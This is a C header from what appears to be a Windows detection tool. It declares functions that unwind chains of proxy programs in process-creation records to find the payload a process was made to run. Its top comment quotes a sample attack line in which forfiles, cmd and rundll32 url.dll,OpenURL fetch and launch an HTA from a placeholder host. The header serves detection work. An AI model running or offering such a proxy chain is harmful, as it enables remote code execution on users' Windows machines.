/* SPDX-License-Identifier: Apache-2.0
 *
 * What a program of Windows was really made to run: unwind.h for one command line that each program splits itself.
 *
 *   forfiles /p c:\x /c "cmd /c rundll32 url.dll,OpenURL http://x/y.hta"
 *   chain: forfiles, cmd, rundll32, url.dll      payload: URL, http://x/y.hta
 *
 * Names in a chain are those of the grammars: small letters, no .exe, whatever the file is called.
 */
#ifndef SN_WINDOWS_UNWIND_H
#define SN_WINDOWS_UNWIND_H
#include "proxy.h"

/* A process creation as its source tells it. Empty: not told. */
struct sn_start {
	struct sn_bytes image, original_name, command_line, parent_image, parent_command_line;
};

struct sn_win_proxies;
struct sn_win_made;

/* `limit`: proxies in a chain, at most SN_UNWIND_DEPTH. NULL: no memory. */
struct sn_win_proxies *sn_win_proxies__new(uint32_t limit);
void sn_win_proxies__free(struct sn_win_proxies *proxies);
/* `identity`: sn_win_proxy__identity of the start. `parent`: what that was made to run; NULL: as far as `start` tells.
 * Borrowed until the next one, and as long as `start` and the grammars are. Its argv is empty: of a command `text` is
 * the command line. */
const struct sn_proxy *sn_win_proxies__see(struct sn_win_proxies *proxies, const struct sn_grammars *grammars,
					   const struct sn_start *start, const struct sn_grammar *identity,
					   const struct sn_win_made *parent);
/* What the process that was seen last is made to run, for its children, until the next one; NULL: nothing. */
const struct sn_win_made *sn_win_proxies__made(const struct sn_win_proxies *proxies);
/* The proxy that the file was made as, by its OriginalFileName; NULL: none. `*renamed`: the file's name is not one of
 * that proxy's. */
const struct sn_grammar *sn_win_proxy__identity(const struct sn_grammars *grammars, const struct sn_start *start,
						bool *renamed);
#endif
